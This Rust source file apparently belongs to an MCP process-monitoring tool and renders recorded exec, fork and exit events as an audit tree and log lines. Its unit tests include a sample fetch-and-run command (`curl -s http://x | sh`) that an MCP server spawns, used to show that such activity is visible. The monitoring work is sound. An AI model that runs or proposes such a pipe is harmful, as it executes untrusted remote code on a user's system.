//! Human rendering of recorded events (pure): the tree an investigator reads first
//! (`mcpwatch log`), and one line per event for `mcpwatch log --follow`.
//!
//! The tree is host → launch → session execs, indented by lineage depth below the
//! launch; within each level, lines are in event-id order, so the output is the same
//! for the same events whatever order they are given in. Commands are the exact argv,
//! shell-quoted ([`shell_join`]) so that spaces, empty and non-UTF-8 arguments stay
//! visible. Times are UTC, shortened to milliseconds (the JSON keeps nanoseconds).
use std::{collections::HashMap, fmt::Write as _, time::Duration};

use crate::event::{shell_join, shell_quote, Event, ExitStatus, HostRef, Kind, LostCounts};

/// Deepest lineage walked through fork events when an exec carries no lineage (the
/// tracker's own bound).
const MAX_HOPS: usize = crate::tracker::LINEAGE_MAX_HOPS;

/// Events grouped by host, launch and session. Forks are not printed: they only
/// place execs that carry no lineage. Daemon start/stop are not part of any tree.
pub fn render_tree(events: &[Event]) -> String {
    let mut sorted: Vec<&Event> = events.iter().collect();
    sorted.sort_by_key(|e| e.id);
    let mut tree = Tree::default();
    for e in sorted {
        tree.add(e);
    }
    tree.render()
}

/// One line for `log --follow`: time, kind, pid, host, then what happened.
pub fn render_line(e: &Event) -> String {
    let ts = full_time(&e.ts);
    match e.kind {
        Kind::Lost => format!("{ts} {}", lost_text(e.lost.as_ref())),
        Kind::DaemonStart | Kind::DaemonStop => format!(
            "{ts} {} {}",
            e.kind.as_str(),
            e.message.as_deref().unwrap_or("")
        )
        .trim_end()
        .to_owned(),
        _ => {
            let host = e
                .host
                .as_ref()
                .map_or_else(|| "(unknown host)".to_owned(), host_label);
            let mut out = format!("{ts} {} pid {} {host}", e.kind.as_str(), e.pid);
            match e.kind {
                Kind::Fork => {
                    if let Some(child) = e.child_pid {
                        let _ = write!(out, " child {child}");
                    }
                }
                Kind::Exit => out.push_str(&notes(&[exit_note(e)])),
                _ => {
                    let mut n = exec_notes(e);
                    if let Some(s) = e.session.filter(|&s| s != e.pid) {
                        n.insert(0, format!("session {s}"));
                    }
                    out.push_str(&notes(&n));
                    out.push_str(" $ ");
                    out.push_str(&command(e));
                }
            }
            out
        }
    }
}

/// The process whose exit an exit event reports, by the line that shows it.
#[derive(Clone, Copy)]
enum Owner {
    Host(usize),
    Launch(usize, usize),
    Line(usize),
}

struct Line<'a> {
    ev: &'a Event,
    /// Hops below the launch (0: the launch process itself re-executing).
    depth: usize,
    exit: Option<&'a Event>,
}

enum Item {
    Line(usize),
    Launch(usize),
}

struct Launch<'a> {
    pid: u32,
    /// `None` when the launch itself is not in the events (log cut, adopted tree).
    ev: Option<&'a Event>,
    exit: Option<&'a Event>,
    lines: Vec<usize>,
}

struct HostGroup<'a> {
    /// `None` for the events with no host.
    host: Option<&'a HostRef>,
    start: Option<&'a Event>,
    exit: Option<&'a Event>,
    /// Date of the group's first event: lines on the same day show the time only.
    date: String,
    items: Vec<Item>,
    launches: Vec<Launch<'a>>,
    /// Latest launch of each session pid (a pid can be reused by a later launch).
    by_session: HashMap<u32, usize>,
}

#[derive(Default)]
struct Tree<'a> {
    lost: Vec<&'a Event>,
    groups: Vec<HostGroup<'a>>,
    /// Current group of each host (name, pid); `None` is the unknown host.
    by_host: HashMap<Option<(&'a str, u32)>, usize>,
    lines: Vec<Line<'a>>,
    /// Who shows each live pid: an exit lands on that line.
    owner: HashMap<u32, Owner>,
    /// Lineage from fork events, for execs that carry none.
    fork_parent: HashMap<u32, u32>,
}

impl<'a> Tree<'a> {
    fn add(&mut self, e: &'a Event) {
        match e.kind {
            Kind::Lost => self.lost.push(e),
            Kind::DaemonStart
            | Kind::DaemonStop
            | Kind::Approve
            | Kind::Revoke
            | Kind::Mode
            | Kind::Decision
            | Kind::Refused
            | Kind::PolicyError
            | Kind::RecordStale
            | Kind::HoldBypass
            | Kind::LogRotate
            | Kind::LogRetention
            | Kind::ConfigChange => {}
            Kind::Fork => {
                if let Some(child) = e.child_pid {
                    self.fork_parent.insert(child, e.pid);
                }
            }
            Kind::Exit => {
                if let Some(owner) = self.owner.remove(&e.pid) {
                    match owner {
                        Owner::Host(h) => self.groups[h].exit = Some(e),
                        Owner::Launch(h, l) => self.groups[h].launches[l].exit = Some(e),
                        Owner::Line(i) => self.lines[i].exit = Some(e),
                    }
                }
            }
            Kind::HostStart
            | Kind::Adopt
            | Kind::HostExec
            | Kind::Launch
            | Kind::Helper
            | Kind::Terminal
            | Kind::Exec => {
                self.place(e);
            }
        }
    }

    fn place(&mut self, ev: &'a Event) {
        let host_root = matches!(ev.kind, Kind::HostStart | Kind::Adopt)
            && ev.host.as_ref().is_some_and(|r| r.pid == ev.pid);
        let group = self.group(ev, host_root);
        if host_root {
            self.groups[group].start = Some(ev);
            self.owner.insert(ev.pid, Owner::Host(group));
            return;
        }
        let session = match ev.kind {
            Kind::Launch => Some(ev.session.unwrap_or(ev.pid)),
            Kind::Exec | Kind::Adopt => ev.session,
            _ => None,
        };
        let Some(session) = session else {
            // Host-level line: host re-exec, or a process outside any session.
            let line = self.push_line(ev, 0);
            self.groups[group].items.push(Item::Line(line));
            let owner = if self.groups[group].host.is_some_and(|r| r.pid == ev.pid) {
                Owner::Host(group)
            } else {
                Owner::Line(line)
            };
            self.owner.insert(ev.pid, owner);
            return;
        };
        if ev.pid == session && matches!(ev.kind, Kind::Launch | Kind::Adopt) {
            let launch = self.new_launch(group, session, Some(ev));
            self.owner.insert(ev.pid, Owner::Launch(group, launch));
            return;
        }
        let launch = match self.groups[group].by_session.get(&session) {
            Some(&launch) => launch,
            None => self.new_launch(group, session, None),
        };
        let depth = self.depth(ev, session);
        let line = self.push_line(ev, depth);
        self.groups[group].launches[launch].lines.push(line);
        // The launch process's own exit ends the session: show it on the launch.
        let owner = if ev.pid == session {
            Owner::Launch(group, launch)
        } else {
            Owner::Line(line)
        };
        self.owner.insert(ev.pid, owner);
    }

    fn new_launch(&mut self, group: usize, pid: u32, ev: Option<&'a Event>) -> usize {
        let g = &mut self.groups[group];
        let launch = g.launches.len();
        g.launches.push(Launch {
            pid,
            ev,
            exit: None,
            lines: Vec::new(),
        });
        g.items.push(Item::Launch(launch));
        g.by_session.insert(pid, launch);
        launch
    }

    fn group(&mut self, e: &'a Event, host_root: bool) -> usize {
        let key = e.host.as_ref().map(|r| (r.name.as_str(), r.pid));
        if let Some(&h) = self.by_host.get(&key) {
            // A second start of the same host pid is a new host (pid reused, restart).
            if !(host_root && self.groups[h].start.is_some()) {
                return h;
            }
        }
        let h = self.groups.len();
        self.groups.push(HostGroup {
            host: e.host.as_ref(),
            start: None,
            exit: None,
            date: split_ts(&e.ts)
                .map(|(d, _)| d.to_owned())
                .unwrap_or_default(),
            items: Vec::new(),
            launches: Vec::new(),
            by_session: HashMap::new(),
        });
        self.by_host.insert(key, h);
        h
    }

    fn push_line(&mut self, ev: &'a Event, depth: usize) -> usize {
        self.lines.push(Line {
            ev,
            depth,
            exit: None,
        });
        self.lines.len() - 1
    }

    /// Hops from `e`'s process up to the session root `s`: from the event's lineage,
    /// else through fork events (bounded: pids get reused), else 1.
    fn depth(&self, e: &Event, s: u32) -> usize {
        if e.pid == s {
            return 0;
        }
        if let Some(i) = e.lineage.iter().position(|&p| p == s) {
            return i.max(1);
        }
        let mut p = e.pid;
        for hops in 1..=MAX_HOPS {
            match self.fork_parent.get(&p) {
                Some(&parent) if parent == s => return hops,
                Some(&parent) => p = parent,
                None => break,
            }
        }
        1
    }

    fn render(&self) -> String {
        let mut sections = Vec::new();
        if !self.lost.is_empty() {
            let mut s = String::new();
            for e in &self.lost {
                let _ = writeln!(s, "{} at {}", lost_text(e.lost.as_ref()), full_time(&e.ts));
            }
            sections.push(s);
        }
        // The unknown host last: it collects what could not be placed.
        let known = self.groups.iter().filter(|g| g.host.is_some());
        for g in known.chain(self.groups.iter().filter(|g| g.host.is_none())) {
            sections.push(self.render_group(g));
        }
        if sections.is_empty() {
            return "(no events)\n".to_owned();
        }
        sections.join("\n")
    }

    fn render_group(&self, g: &HostGroup<'_>) -> String {
        let mut out = String::new();
        match (g.host, g.start) {
            (None, _) => out.push_str("(unknown host)"),
            (Some(h), Some(start)) => {
                let mut n = exec_notes(start);
                if start.kind == Kind::Adopt {
                    n.insert(0, "adopted".to_owned());
                }
                n.extend(g.exit.map(exit_note));
                let _ = write!(
                    out,
                    "host {} pid {} {}{} $ {}",
                    h.name,
                    h.pid,
                    full_time(&start.ts),
                    notes(&n),
                    command(start)
                );
            }
            (Some(h), None) => {
                let n: Vec<String> = g.exit.map(exit_note).into_iter().collect();
                let _ = write!(
                    out,
                    "host {} pid {} (start not in log){}",
                    h.name,
                    h.pid,
                    notes(&n)
                );
            }
        }
        out.push('\n');
        for item in &g.items {
            match *item {
                Item::Line(i) => render_line_at(&mut out, &self.lines[i], 2, &g.date),
                Item::Launch(l) => {
                    let launch = &g.launches[l];
                    let exit = launch.exit.map(exit_note);
                    if let Some(ev) = launch.ev {
                        let mut n = exec_notes(ev);
                        n.extend(exit);
                        let label = if ev.kind == Kind::Adopt {
                            "adopted launch"
                        } else {
                            "launch"
                        };
                        let _ = writeln!(
                            out,
                            "  {label} pid {} {}{} $ {}",
                            ev.pid,
                            short_time(&ev.ts, &g.date),
                            notes(&n),
                            command(ev)
                        );
                    } else {
                        let n: Vec<String> = exit.into_iter().collect();
                        let _ =
                            writeln!(out, "  launch pid {} (not in log){}", launch.pid, notes(&n));
                    }
                    for &i in &launch.lines {
                        let line = &self.lines[i];
                        render_line_at(&mut out, line, 4 + 2 * line.depth, &g.date);
                    }
                }
            }
        }
        out
    }
}

/// One exec line of the tree, `indent` spaces in.
fn render_line_at(out: &mut String, line: &Line<'_>, indent: usize, date: &str) {
    let e = line.ev;
    let mut n = exec_notes(e);
    n.extend(line.exit.map(exit_note));
    let _ = writeln!(
        out,
        "{:indent$}{} pid {} {}{} $ {}",
        "",
        e.kind.as_str(),
        e.pid,
        short_time(&e.ts, date),
        notes(&n),
        command(e)
    );
}

fn host_label(h: &HostRef) -> String {
    format!("{}:{}", h.name, h.pid)
}

/// The exact command; without argv, the executable (or the execve filename).
fn command(e: &Event) -> String {
    match &e.argv {
        Some(argv) if !argv.is_empty() => shell_join(argv),
        _ => {
            let exe = e
                .exe
                .as_ref()
                .and_then(|x| x.path.as_ref())
                .or(e.filename.as_ref());
            match exe {
                Some(p) => format!("(no argv) {}", shell_quote(&p.0)),
                None => "(no argv)".to_owned(),
            }
        }
    }
}

/// What the reader must know to take the command at its word, and what consent
/// said about it.
fn exec_notes(e: &Event) -> Vec<String> {
    let mut n = Vec::new();
    if let Some(v) = &e.verdict {
        let mut s = format!(
            "{} ({})",
            v.decision.as_str().to_uppercase(),
            v.mode.as_str()
        );
        if let Some(r) = v.record {
            let _ = write!(s, " by record {r}");
        }
        if v.killed {
            s.push_str(" before it ran");
        }
        if let Some(p) = v.pending {
            let _ = write!(s, ", pending {p}");
        }
        if v.decision != crate::event::Decision::Allowed {
            if let Some(reason) = &v.reason {
                let _ = write!(s, ": {reason}");
            }
        }
        n.push(s);
    }
    if e.argv_truncated {
        n.push("argv truncated".to_owned());
    }
    match e.argv_source.as_deref() {
        None => {}
        Some("proc") => n.push("argv from /proc".to_owned()),
        Some(other) => n.push(format!("argv {other}")),
    }
    n
}

fn notes(n: &[String]) -> String {
    if n.is_empty() {
        String::new()
    } else {
        format!(" [{}]", n.join(", "))
    }
}

/// `exit 0 after 3.250s`, `killed by SIGKILL (137) after 0.010s`.
fn exit_note(e: &Event) -> String {
    let mut s = e
        .exit
        .as_ref()
        .map_or_else(|| "exited".to_owned(), exit_text);
    if let Some(d) = e.duration {
        let _ = write!(s, " after {}", duration_text(d));
    }
    s
}

fn exit_text(x: &ExitStatus) -> String {
    match (x.signal, x.code) {
        (Some(sig), _) => {
            let name = nix::sys::signal::Signal::try_from(sig)
                .map_or_else(|_| format!("signal {sig}"), |s| s.as_str().to_owned());
            format!("killed by {name} ({})", x.status)
        }
        (None, Some(code)) => format!("exit {code}"),
        (None, None) => format!("exit status {}", x.status),
    }
}

fn duration_text(secs: f64) -> String {
    let Ok(d) = Duration::try_from_secs_f64(secs) else {
        return "?".to_owned();
    };
    let s = d.as_secs();
    if s < 60 {
        format!("{}.{:03}s", s, d.subsec_millis())
    } else if s < 3600 {
        format!("{}m{:02}s", s / 60, s % 60)
    } else {
        format!("{}h{:02}m{:02}s", s / 3600, s / 60 % 60, s % 60)
    }
}

fn lost_text(lost: Option<&LostCounts>) -> String {
    let Some(l) = lost else {
        return "!! events lost (counts not recorded)".to_owned();
    };
    let parts: Vec<String> = [
        ("ringbuf", l.ringbuf),
        ("queue", l.queue),
        ("broadcast", l.broadcast),
        ("decode", l.decode),
    ]
    .iter()
    .filter(|(_, n)| *n > 0)
    .map(|(what, n)| format!("{what} {n}"))
    .collect();
    if parts.is_empty() {
        format!("!! {} events lost", l.total())
    } else {
        format!("!! {} events lost ({})", l.total(), parts.join(", "))
    }
}

/// `2026-11-27T10:00:01.123456789Z` → (`2026-11-27`, `10:00:01.123`).
fn split_ts(ts: &str) -> Option<(&str, String)> {
    let (date, rest) = ts.split_once('T')?;
    let rest = rest.strip_suffix('Z')?;
    let (hms, frac) = rest.split_once('.').unwrap_or((rest, ""));
    if hms.len() != 8 || !frac.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    Some((date, format!("{hms}.{:0<3}", frac.get(..3).unwrap_or(frac))))
}

/// `2026-11-27 10:00:01.123Z`; anything unexpected is shown as recorded.
fn full_time(ts: &str) -> String {
    split_ts(ts).map_or_else(|| ts.to_owned(), |(d, t)| format!("{d} {t}Z"))
}

/// Time only when on `date` (the host's first day), else the full time.
fn short_time(ts: &str, date: &str) -> String {
    match split_ts(ts) {
        Some((d, t)) if d == date => t,
        _ => full_time(ts),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Bytes, Exe};

    fn host() -> HostRef {
        HostRef {
            name: "claude-code".into(),
            pid: 100,
        }
    }

    fn ev(id: u64, time: &str, kind: Kind, pid: u32) -> Event {
        let mut e = Event::new(kind, id, format!("2026-11-27T{time}Z"));
        e.pid = pid;
        e.host = Some(host());
        e
    }

    fn exec(id: u64, time: &str, kind: Kind, pid: u32, lineage: &[u32], argv: &[&str]) -> Event {
        let mut e = ev(id, time, kind, pid);
        e.lineage = lineage.to_vec();
        e.session = lineage
            .iter()
            .rev()
            .nth(1)
            .copied()
            .filter(|_| kind != Kind::HostExec);
        e.argv = Some(argv.iter().map(|&a| Bytes::from(a)).collect());
        e
    }

    fn fork(id: u64, time: &str, pid: u32, child: u32) -> Event {
        let mut e = ev(id, time, Kind::Fork, pid);
        e.child_pid = Some(child);
        e
    }

    fn exit(id: u64, time: &str, pid: u32, wait_status: u32, secs: f64) -> Event {
        let mut e = ev(id, time, Kind::Exit, pid);
        e.exit = Some(ExitStatus::from_wait_status(wait_status));
        e.duration = Some(secs);
        e
    }

    fn small_tree() -> Vec<Event> {
        let mut lost = Event::new(Kind::Lost, 14, "2026-11-27T10:00:09.000000000Z".into());
        lost.lost = Some(LostCounts {
            ringbuf: 3,
            ..LostCounts::default()
        });
        let mut orphan = exec(
            15,
            "10:00:10.000000000",
            Kind::Exec,
            999,
            &[],
            &["ls", "-l"],
        );
        orphan.host = None;
        let mut host_start = exec(
            1,
            "10:00:00.000000000",
            Kind::HostStart,
            100,
            &[100],
            &["claude"],
        );
        host_start.session = None;
        vec![
            // Given out of order: the output follows event ids.
            exec(
                5,
                "10:00:01.500000000",
                Kind::Exec,
                200,
                &[200, 100],
                &["node", "/srv/fs/index.js", "/tmp"],
            ),
            host_start,
            fork(2, "10:00:00.900000000", 100, 200),
            exec(
                3,
                "10:00:01.000000000",
                Kind::Launch,
                200,
                &[200, 100],
                &[
                    "npx",
                    "-y",
                    "@modelcontextprotocol/server-filesystem",
                    "/tmp",
                ],
            ),
            exec(
                4,
                "10:00:01.200000000",
                Kind::HostExec,
                101,
                &[101, 100],
                &["claude", "--helper"],
            ),
            fork(6, "10:00:01.900000000", 200, 201),
            exec(
                7,
                "10:00:02.000000000",
                Kind::Exec,
                201,
                &[201, 200, 100],
                &["sh", "-c", "curl -s http://x | sh"],
            ),
            exec(
                8,
                "10:00:02.100000000",
                Kind::Exec,
                202,
                &[202, 201, 200, 100],
                &["curl", "-s", "http://x"],
            ),
            exit(9, "10:00:02.350000000", 202, 0, 0.25),
            exit(10, "10:00:03.500000000", 201, 9, 1.5),
            exec(
                11,
                "10:00:04.000000000",
                Kind::Launch,
                300,
                &[300, 100],
                &["uvx", "mcp-server-git"],
            ),
            exit(12, "10:00:04.250000000", 200, 0, 3.25),
            lost,
            orphan,
        ]
    }

    #[test]
    fn tree_groups_host_launches_and_nested_execs_with_exit_status() {
        let expected = "\
!! 3 events lost (ringbuf 3) at 2026-11-27 10:00:09.000Z

host claude-code pid 100 2026-11-27 10:00:00.000Z $ claude
  launch pid 200 10:00:01.000 [exit 0 after 3.250s] $ npx -y @modelcontextprotocol/server-filesystem /tmp
    exec pid 200 10:00:01.500 $ node /srv/fs/index.js /tmp
      exec pid 201 10:00:02.000 [killed by SIGKILL (137) after 1.500s] $ sh -c 'curl -s http://x | sh'
        exec pid 202 10:00:02.100 [exit 0 after 0.250s] $ curl -s http://x
  host_exec pid 101 10:00:01.200 $ claude --helper
  launch pid 300 10:00:04.000 $ uvx mcp-server-git

(unknown host)
  exec pid 999 10:00:10.000 $ ls -l
";
        assert_eq!(render_tree(&small_tree()), expected);
    }

    #[test]
    fn tree_shows_non_utf8_argv_quoted_and_truncation_noted() {
        let mut e = exec(2, "10:00:01.000000000", Kind::Launch, 200, &[200, 100], &[]);
        e.argv = Some(vec![
            Bytes::from("cat"),
            Bytes(vec![b'f', 0xff]),
            Bytes::from("a b"),
        ]);
        e.argv_truncated = true;
        let out = render_tree(&[e]);
        assert_eq!(
            out,
            "host claude-code pid 100 (start not in log)\n  \
             launch pid 200 10:00:01.000 [argv truncated] $ cat $'f\\xff' 'a b'\n"
        );
    }

    #[test]
    fn session_execs_without_their_launch_or_lineage_are_placed_by_forks() {
        let mut a = exec(3, "10:00:01.000000000", Kind::Exec, 201, &[], &["sh"]);
        a.session = Some(200);
        let mut b = exec(5, "10:00:02.000000000", Kind::Exec, 202, &[], &["id"]);
        b.session = Some(200);
        let events = [
            fork(1, "10:00:00.500000000", 200, 201),
            a,
            fork(4, "10:00:01.500000000", 201, 202),
            b,
        ];
        assert_eq!(
            render_tree(&events),
            "host claude-code pid 100 (start not in log)\n  \
             launch pid 200 (not in log)\n      \
             exec pid 201 10:00:01.000 $ sh\n        \
             exec pid 202 10:00:02.000 $ id\n"
        );
    }

    #[test]
    fn empty_input_says_there_is_nothing() {
        assert_eq!(render_tree(&[]), "(no events)\n");
    }

    #[test]
    fn render_line_shows_time_kind_pid_host_and_exact_command() {
        let t = small_tree();
        let by_id = |id| t.iter().find(|e| e.id == id).unwrap();
        assert_eq!(
            render_line(by_id(7)),
            "2026-11-27 10:00:02.000Z exec pid 201 claude-code:100 [session 200] $ sh -c 'curl -s http://x | sh'"
        );
        assert_eq!(
            render_line(by_id(10)),
            "2026-11-27 10:00:03.500Z exit pid 201 claude-code:100 [killed by SIGKILL (137) after 1.500s]"
        );
        assert_eq!(
            render_line(by_id(2)),
            "2026-11-27 10:00:00.900Z fork pid 100 claude-code:100 child 200"
        );
        assert_eq!(
            render_line(by_id(14)),
            "2026-11-27 10:00:09.000Z !! 3 events lost (ringbuf 3)"
        );
        assert_eq!(
            render_line(by_id(15)),
            "2026-11-27 10:00:10.000Z exec pid 999 (unknown host) $ ls -l"
        );
        let mut e = ev(20, "10:00:11", Kind::Launch, 400);
        e.argv = Some(vec![Bytes(vec![0xff, b'\n'])]);
        assert_eq!(
            render_line(&e),
            "2026-11-27 10:00:11.000Z launch pid 400 claude-code:100 $ $'\\xff\\x0a'"
        );
        e.argv = None;
        e.exe = Some(Exe {
            path: Some(Bytes::from("/usr/bin/my tool")),
            ..Exe::default()
        });
        assert_eq!(render_line(&e), "2026-11-27 10:00:11.000Z launch pid 400 claude-code:100 $ (no argv) '/usr/bin/my tool'");
    }

    #[test]
    fn durations_and_timestamps_shorten_readably() {
        assert_eq!(duration_text(0.010), "0.010s");
        assert_eq!(duration_text(125.0), "2m05s");
        assert_eq!(duration_text(3725.0), "1h02m05s");
        assert_eq!(duration_text(-1.0), "?");
        assert_eq!(full_time("not a time"), "not a time");
        assert_eq!(
            short_time("2026-11-28T00:00:01.5Z", "2026-11-27"),
            "2026-11-28 00:00:01.500Z"
        );
        assert_eq!(exit_text(&ExitStatus::from_wait_status(3 << 8)), "exit 3");
    }
}
